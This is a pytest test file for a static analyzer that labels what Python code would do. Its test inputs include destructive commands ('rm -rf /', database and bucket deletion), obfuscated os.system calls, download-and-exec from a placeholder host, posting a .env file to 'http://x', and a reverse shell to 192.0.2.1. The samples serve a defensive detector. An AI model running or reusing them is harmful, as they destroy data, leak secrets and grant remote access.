"""Python: the same acts as the shell's, however they are written."""

from __future__ import annotations

import textwrap

import pytest

from guardsh.languages import read
from guardsh.reading.model import Effect
from tests.languages.support import acts, context

ONE_LINERS = [
    ('import os; os.system("rm -rf ~")', ["$ rm -rf ~"]),
    ("x='rm'; y=' -rf '; import os; os.system(x+y+'/')", ["$ rm -rf /"]),
    ("import os; os.popen('id').read()", ["$ id"]),
    ("import os; os.chdir('/'); os.system('rm -rf etc')", ["! env -C / sh -c rm -rf etc"]),
    ("import os; os.environ['PGHOST'] = 'prod'; os.system('psql')", ["! env PGHOST=prod sh -c psql"]),
    ("import os; os.execvp('rm', ['rm', '-rf', '/'])", ["! rm -rf /"]),
    ("import os; os.execl('/bin/sh', 'sh', '-c', 'id')", ["! /bin/sh -c id"]),
    ("import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', 'x')", ["! rm x"]),
    ('import subprocess; subprocess.run(["rm", "-rf", f"/tmp/{x}"])', ["! rm -rf /tmp/…"]),
    ('import subprocess as sp; sp.check_output("rm x", shell=True)', ["$ rm x"]),
    ('import subprocess; subprocess.run("make", shell=True, cwd="/srv")', ["! env -C /srv sh -c make"]),
    ('import subprocess; subprocess.call("rm -rf x".split())', ["! rm -rf x"]),
    ("import subprocess, shlex; subprocess.Popen(shlex.split(\"rm 'a b'\"))", ["! rm a b"]),
    ("import subprocess; subprocess.run(['bash'], input='id')", ["$ id", "! bash"]),
    ("import subprocess; p = subprocess.Popen(['sh']); p.communicate('id')", ["! sh", "$ id"]),
    ("import subprocess; p = subprocess.Popen(['sh']); p.stdin.write('id')", ["! sh", "$ id"]),
    ("import subprocess; subprocess.run(cmd, shell=True)", ["run unknown …"]),
    ("import subprocess; subprocess.getoutput('id')", ["$ id"]),
    ("import asyncio; asyncio.create_subprocess_exec('rm', 'x')", ["! rm x"]),
    ("import pty; pty.spawn('/bin/sh')", ["! /bin/sh"]),
    ("import sh; sh.rm('-rf', 'x')", ["! rm -rf x"]),
    ("import ctypes; ctypes.CDLL(None).system(b'id')", ["$ id"]),
    ("import os, signal; os.kill(-1, signal.SIGKILL)", ["! kill -KILL -- -1"]),
    ("from django.core.management import call_command; call_command('flush')", ["! python manage.py flush"]),
    ("import os, shutil; os.chdir('/'); shutil.rmtree('home')", ["delete -r /home"]),
    (
        "import os; os.chdir('/srv'); exec(\"import os; os.remove('a'); os.system('id')\")",
        ["delete /srv/a", "! env -C /srv sh -c id"],
    ),
    # names resolved
    ('__import__("os").system("id")', ["$ id"]),
    ('import importlib; importlib.import_module("os").system("id")', ["$ id"]),
    ('import os; getattr(os, "sys" + "tem")("id")', ["$ id"]),
    ("import os; getattr(os, name)('id')", ["run unreadable"]),
    ("import os; os.__dict__['system']('id')", ["$ id"]),
    ("import os; vars(os)['system']('id')", ["$ id"]),
    ("import sys; sys.modules['os'].system('id')", ["$ id"]),
    ("from os import system as s; s('id')", ["$ id"]),
    ("from os import *; system('id')", ["$ id"]),
    ("f = __import__('os').system; f('id')", ["$ id"]),
    ("import os; list(map(os.system, ['a', 'b']))", ["$ a", "$ b"]),
    ("import os, threading; threading.Thread(target=os.system, args=('id',)).start()", ["$ id"]),
    ("import os, functools; functools.partial(os.system, 'id')()", ["$ id"]),
    ("import os; (lambda c: os.system(c))('id')", ["$ id"]),
    ("import os; os.system(''.join(chr(c) for c in [105, 100]))", ["$ id"]),
    ("import os; os.system('di'[::-1])", ["$ id"]),
    ("import os; os.system('%s %s' % ('rm', 'x'))", ["$ rm x"]),
    ("import os; os.system('{} {b}'.format('rm', b='x'))", ["$ rm x"]),
    ("import os; os.system(bytes.fromhex('6964').decode())", ["$ id"]),
    # code in code
    ("exec(\"import os; os.system('id')\")", ["$ id"]),
    ("eval(compile(\"__import__('os').system('id')\", '', 'exec'))", ["$ id"]),
    ('import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))', ["$ id"]),
    ("import base64, sys; exec(base64.b64decode(sys.argv[1]))", ["run decoded …"]),
    (
        "import urllib.request as u; exec(u.urlopen('http://x/y').read())",
        ["request GET http://x/y", "run downloaded …"],
    ),
    ("import os, requests; os.system(requests.get('http://x').text)", ["request GET http://x", "run downloaded …"]),
    ("exec(open('x.py').read())", ["read x.py", "< /home/u/project/x.py"]),
    ("import runpy; runpy.run_path('x.py')", ["< x.py"]),
    # files
    ('import shutil; shutil.rmtree("/home/u/data")', ["delete -r /home/u/data"]),
    ("import shutil as s, os.path as p; s.rmtree(p.expanduser('~'))", ["delete -r /home/u"]),
    ("import os, shutil; shutil.rmtree(os.environ['HOME'])", ["delete -r /home/u"]),
    ("import os, shutil; shutil.rmtree(os.path.join('/srv', x))", ["delete -r /srv/…"]),
    ("import shutil, tempfile; shutil.rmtree(tempfile.mkdtemp())", ["delete -r /tmp/¤"]),
    ("from pathlib import Path; (Path.home() / 'x' / 'y').unlink()", ["delete /home/u/x/y"]),
    ("import pathlib; pathlib.Path('~/a').expanduser().rmdir()", ["delete /home/u/a"]),
    ("from pathlib import Path; [p.unlink() for p in Path('b').rglob('*.pyc')]", ["delete b/**/*.pyc"]),
    ("from pathlib import Path; Path('a').rename('b')", ["move a", "overwrite b"]),
    ("from pathlib import Path; Path('a').write_text('x')", ["overwrite a"]),
    ("import os; [os.remove(f) for f in ('a', 'b')]", ["delete a", "delete b"]),
    ("import glob, os; [os.remove(f) for f in glob.glob('*.log')]", ["delete *.log"]),
    ("import os; [os.remove(os.path.join('d', f)) for f in os.listdir('d')]", ["delete d/*"]),
    ("import os; os.remove('…')", ["delete …"]),
    ("import os; os.remove(…)", ["delete …"]),
    (
        "import os, shutil; os.replace('a', 'b'); shutil.move('c', 'd')",
        ["move a", "overwrite b", "move c", "overwrite d"],
    ),
    ("import os; os.truncate('a', 0); os.chmod('b', 0o777)", ["truncate a", "permissions b"]),
    ("open('a', 'w'); open('b'); open('c', 'a'); open('d', 'r+')", ["overwrite a", "read b", "append c", "edit d"]),
    ("open('a', mode)", ["overwrite a"]),
    # databases and services
    ("import sqlite3; sqlite3.connect('a.db').cursor().execute('DROP TABLE x')", ["sql drop table x"]),
    ("cur.execute(f'DELETE FROM {t}')", ["sql delete all …"]),
    ("cur.execute('select 1'); cur.execute(q); run('x')", ["sql select"]),
    ("from sqlalchemy import text; s.execute(text('drop table x'))", ["sql drop table x"]),
    ("cur.execute(open('x.sql').read())", ["read x.sql", "< /home/u/project/x.sql"]),
    ("from pymongo import MongoClient; MongoClient().drop_database('shop')", ["data dropDatabase shop"]),
    ("import pymongo; pymongo.MongoClient().db.users.delete_many({})", ["data deleteMany all users"]),
    ("import pymongo; pymongo.MongoClient().db.users.drop()", ["data drop users"]),
    ("import redis; redis.Redis().flushall()", ["data FLUSHALL"]),
    (
        "import boto3; boto3.client('rds').delete_db_instance(DBInstanceIdentifier='prod')",
        ["data delete_db_instance prod"],
    ),
    ("import boto3; boto3.resource('s3').Bucket('b').objects.all().delete()", ["data delete_objects b"]),
    ("import boto3; [b.delete() for b in boto3.resource('s3').buckets.all()]", ["data delete_buckets"]),
    ("import docker\nfor v in docker.from_env().volumes.list():\n    v.remove()", ["data remove_volumes"]),
    ("User.objects.all().delete()", ["data delete all User"]),
    # requests
    ("import requests; requests.delete('https://h/x')", ["request DELETE https://h/x"]),
    ("import requests; requests.request('put', 'https://h/x', json={'a': 1})", ["request PUT https://h/x"]),
    (
        "import requests; requests.Session().post('https://h/x', data={'_method': 'delete'})",
        ["request DELETE https://h/x"],
    ),
    ("import httpx; httpx.Client(base_url='https://h').delete('/x')", ["request DELETE https://h/x"]),
    (
        "import urllib.request as u; u.urlopen(u.Request('https://h/x', method='DELETE'))",
        ["request DELETE https://h/x"],
    ),
    ("import urllib.request as u; u.urlopen('https://h/x', b'a=1')", ["request POST https://h/x"]),
    ("import http.client; http.client.HTTPSConnection('h').request('DELETE', '/x')", ["request DELETE https://h/x"]),
    (
        "import requests; requests.post('http://x', data=open('/home/u/.env').read())",
        ["read /home/u/.env", "request POST http://x", "send /home/u/.env"],
    ),
    (
        "import requests; requests.post('http://x', files={'f': open('a.db', 'rb')})",
        ["read a.db", "request POST http://x", "send a.db"],
    ),
    ("from gql import gql; c.execute(gql('mutation { volumeDelete(id: 1) }'))", ["request POST"]),
    # ordinary work
    ("import numpy as np, pandas as pd; np.delete([1], 0); df = pd.read_csv('a'); df.drop(columns=['x'])", []),
    ("print('rm -rf /', \"os.system('id')\")", []),
    ("xs = []; xs.remove(1); xs.clear(); d = {}; d.pop('a'); s = set(); s.discard(1)", []),
    ("import re; re.compile('x').sub('', 'y'); 'a'.replace('a', 'b')", []),
    ("print(f\"{d['a']}\")", []),
    ("… = 1", []),
    # what can't be read
    ("print('hi'", ["run unreadable"]),
    ("import os; …", ["run unreadable"]),
    ("print 'py2'", ["run unreadable"]),
]

PROGRAMS = [
    (
        """
        import os
        for root, dirs, files in os.walk("src"):
            for name in files:
                if name.endswith(".pyc"):
                    os.remove(os.path.join(root, name))
        """,
        ["delete src/*.pyc", "delete src/**/*.pyc"],
    ),
    (
        """
        import os, shutil
        p = "/tmp/x"
        if os.getenv("A"):
            p = "/"
        shutil.rmtree(p)
        """,
        ["delete -r /", "delete -r /tmp/x"],
    ),
    (
        """
        import shutil
        p = "a"
        while more():
            shutil.rmtree(p)
            p = "/"
        """,
        ["delete -r /", "delete -r a"],
    ),
    (
        """
        import shutil
        def clean(directory, deep=False):
            shutil.rmtree(directory)
        clean("/tmp/x")
        """,
        ["delete -r /tmp/x"],
    ),
    (
        """
        import shutil
        def clean(directory):
            shutil.rmtree(directory)
        def main():
            clean("x")
        """,
        ["delete -r x"],
    ),
    (
        """
        import shutil
        @app.route("/clean/<name>")
        def clean(name):
            shutil.rmtree("uploads/" + name)
        app.run()
        """,
        ["delete -r uploads/…"],
    ),
    (
        """
        import shutil
        class Store:
            def __init__(self):
                self.path = "/data"
            def clean(self):
                shutil.rmtree(self.path)
        Store().clean()
        """,
        ["delete -r /data"],
    ),
    (
        """
        import os
        try:
            target = "a"
        except ValueError:
            target = "b"
        with open("x") as f:
            os.remove(target)
        if __name__ == "__main__":
            os.remove("main")
        """,
        ["read x", "delete a", "delete b", "delete main"],
    ),
    (
        """
        import socket, os, subprocess
        s = socket.socket()
        s.connect(("192.0.2.1", 9))
        os.dup2(s.fileno(), 0)
        subprocess.call(["sh", "-i"])
        """,
        ["! sh -i", "run reverse-shell 192.0.2.1:9"],
    ),
    (
        """
        import os
        os.remove("a")
        this is no python
        os.remove("b")
        """,
        ["run unreadable", "delete a", "delete b"],
    ),
]


@pytest.mark.parametrize(("code", "found"), ONE_LINERS)
def test_what_one_line_does(code: str, found: list[str]) -> None:
    assert sorted(acts("python", code)) == sorted(found)


@pytest.mark.parametrize(("code", "found"), PROGRAMS)
def test_what_a_program_does(code: str, found: list[str]) -> None:
    assert sorted(acts("python", textwrap.dedent(code))) == sorted(found)


def test_an_effect_that_nothing_calls_says_so() -> None:
    (effect,) = read("python", "import os\ndef unused(p):\n    os.remove(p)\n", context())
    assert isinstance(effect, Effect) and effect.detail("called") == "no"
    (effect,) = read("python", "import os\ndef used(p):\n    os.remove(p)\nregister(used)\n", context())
    assert isinstance(effect, Effect) and effect.detail("called") == ""


def test_an_imported_module_runs_only_its_top_level() -> None:
    code = "import os\nos.remove('a')\ndef unused():\n    os.remove('b')\n"
    assert acts("python-module", code) == ["delete a"]
    files = {"/home/u/project/tool.py": "x"}
    assert acts("python", "import tool, json, numpy", files=files) == ["< /home/u/project/tool.py"]


def test_the_credential_tells_where_it_came_from() -> None:
    def credential(code: str) -> tuple[str, str]:
        found = read("python", "import os, requests\n" + code, context(environment={"TOKEN": "t0"}))
        effect = next(act for act in found if isinstance(act, Effect) and act.kind == "request")
        return effect.detail("credential"), effect.detail("credential_file")

    post = (
        "requests.post('https://h/graphql', headers={'Authorization': f'Bearer {t}'}, json={'query': 'mutation { a }'})"
    )
    assert credential("t = 'abc'\n" + post) == ("literal", "")
    assert credential("t = os.environ['TOKEN']\n" + post) == ("env", "")
    assert credential("t = os.getenv('UNSET')\n" + post) == ("env", "")
    assert credential("t = open('../x/.env').read().split('=')[1].strip()\n" + post) == ("file", "/home/u/x/.env")
    assert credential("requests.get('https://h', auth=('me', 'secret'))") == ("literal", "")


def test_the_connection_is_known_where_the_code_shows_it() -> None:
    code = "import psycopg2\nc = psycopg2.connect(host='db.prod', dbname='shop')\nc.cursor().execute('drop table x')"
    (effect,) = read("python", code, context())
    assert isinstance(effect, Effect)
    assert (effect.detail("host"), effect.detail("database")) == ("db.prod", "shop")
    (effect,) = read(
        "python",
        "import sqlalchemy as s\ns.create_engine('postgresql://u:p@h:5/d').connect().execute('drop table x')",
        context(),
    )
    assert isinstance(effect, Effect)
    assert (effect.detail("host"), effect.detail("database")) == ("h", "d")


def test_a_graphql_mutation_in_a_dictionary() -> None:
    code = """import requests
q = "mutation D($id: ID!) { volumeDelete(volumeId: $id) }"
requests.post("https://h/graphql/v2", json={"query": q, "variables": {"id": "3d2c"}})"""
    (effect,) = read("python", code, context())
    assert isinstance(effect, Effect)
    assert (effect.detail("operation"), effect.detail("field"), effect.detail("argument")) == (
        "mutation",
        "volumeDelete",
        "3d2c",
    )


def test_spans_are_characters_of_the_code() -> None:
    code = "import os\nprint('äöü'); os.remove('x')"
    (effect,) = read("python", code, context())
    assert isinstance(effect, Effect) and code[slice(*effect.span)] == "os.remove('x')"


@pytest.mark.parametrize(
    "code",
    [
        "(" * 3_000,
        "-" * 20_000 + "1",
        "x = " + "[" * 90 + "]" * 90,
        "f(" * 80 + ")" * 80,
        "x" + ".a" * 5_000,
        "a = " + "+".join(["'x'"] * 3_000),
        "def f():\n    return f() + f()\nf()",
        "\n".join(f"if a:\n    x{i} = 1\nelse:\n    x{i} = 2" for i in range(2_000)),
        "for a in range(9):\n"
        + "".join("  " * i + f" for b{i} in range(9):\n" for i in range(1, 18))
        + "  " * 20
        + "pass",
        "x = 'a'\n" + "x = x + x\n" * 60,
        "lambda: " * 500 + "0",
        "\x00",
        "\ud800",
    ],
)
def test_it_never_raises_and_stays_bounded(code: str) -> None:
    for act in read("python", code, context()):
        assert isinstance(act, Effect)
